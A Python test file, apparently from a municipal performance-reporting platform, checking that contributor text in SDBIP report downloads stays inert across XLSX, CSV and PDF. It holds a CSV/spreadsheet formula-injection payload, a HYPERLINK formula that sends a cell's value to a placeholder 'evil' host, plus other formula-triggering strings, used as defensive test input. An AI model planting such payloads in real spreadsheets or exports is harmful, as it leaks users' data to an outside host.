"""Whatever a contributor types reaches every download of the SDBIP report intact and
harmless: formula-like text stays text, markup characters are shown, control characters
do not break the XLSX, emoji and right-to-left text survive, and a 3 000-character
reason runs over pages in the PDF."""

from __future__ import annotations

import csv
import io
from typing import Any

import pypdf
from litestar.testing import TestClient

from saypro.platform.db.engine import Database
from saypro.tenants.kpis.models import ActualState
from tests.conftest import login
from tests.platform.documents.conftest import data_row, sheet_of
from tests.tenants.kpis.conftest import make_indicator
from tests.tenants.reports.conftest import YEAR, Fixture, add_actual

FORMULA = '=HYPERLINK("https://evil/?"&B12,"see")'
TAIL = " <b>bold</b> & co\x0bnext line 😀 שלום עולם "
LONG = " ".join(f"w{n:05d}" for n in range(3000 // 7))  # 3 000 characters of numbered words
REASON = FORMULA + TAIL + LONG
MEASURE = "-2+3 @SUM(A1) \tR&D <i>"


def _download(client: TestClient[Any], known: Fixture, fmt: str) -> bytes:
    response = client.get(
        f"/api/v1/t/{known.tenant.slug}/kpis/reports/sdbip",
        params={"financial_year": YEAR, "quarter": 2, "format": fmt},
    )
    assert response.status_code == 200, response.text
    return response.content


def test_hostile_text_in_every_format(
    client: TestClient[Any], known: Fixture, database: Database
) -> None:
    hostile = make_indicator(database, known.tenant, "HOST1", year=YEAR).indicator_id
    add_actual(
        database,
        known.tenant,
        hostile,
        2,
        50,
        ActualState.APPROVED,
        deviation_reason=REASON,
        corrective_measure=MEASURE,
    )
    login(client, known.editor)

    cells = data_row(sheet_of(_download(client, known, "xlsx")), "HOST1")
    reason, measure = cells["Reason for deviation"], cells["Corrective measure"]
    assert reason.data_type == "s" and measure.data_type == "s"  # never a formula
    assert reason.value == REASON.replace("\x0b", "\n")  # a line break, as Word meant it
    assert measure.value == MEASURE
    assert cells["Quarter actual"].value == 50  # numbers stay numbers

    text = _download(client, known, "csv").decode("utf-8-sig")
    rows = {r["Code"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert rows["HOST1"]["Reason for deviation"] == "'" + REASON.replace("\x0b", "\n")
    assert rows["HOST1"]["Corrective measure"] == "'" + MEASURE
    assert rows["HOST1"]["Quarter actual"] == "50"

    reader = pypdf.PdfReader(io.BytesIO(_download(client, known, "pdf")))
    pages = [page.extract_text() for page in reader.pages]
    assert len(pages) > 1
    for number, page in enumerate(pages, start=1):
        assert f"page {number} of {len(pages)}" in page
    words = " ".join(" ".join(pages).split())
    assert FORMULA in "".join(words.split())  # a word wider than its column is broken
    assert "<b>bold</b> & co next line" in words  # markup shown, not applied
    assert "R&D <i>" in words
    assert LONG.split()[0] in words and LONG.split()[-1] in words  # nothing cut
